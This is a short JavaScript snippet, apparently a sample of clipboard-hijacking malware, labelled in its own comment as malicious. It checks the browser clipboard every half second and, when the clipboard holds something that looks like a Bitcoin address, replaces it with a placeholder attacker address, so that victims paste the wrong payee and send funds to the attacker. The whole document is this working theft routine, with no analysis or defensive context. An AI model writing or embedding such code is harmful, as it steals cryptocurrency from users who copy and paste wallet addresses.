// malicious: swaps wallet addresses in the clipboard
setInterval(async () => {
  const t = await navigator.clipboard.readText();
  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) navigator.clipboard.writeText('bc1qattackeraddress');
}, 500);
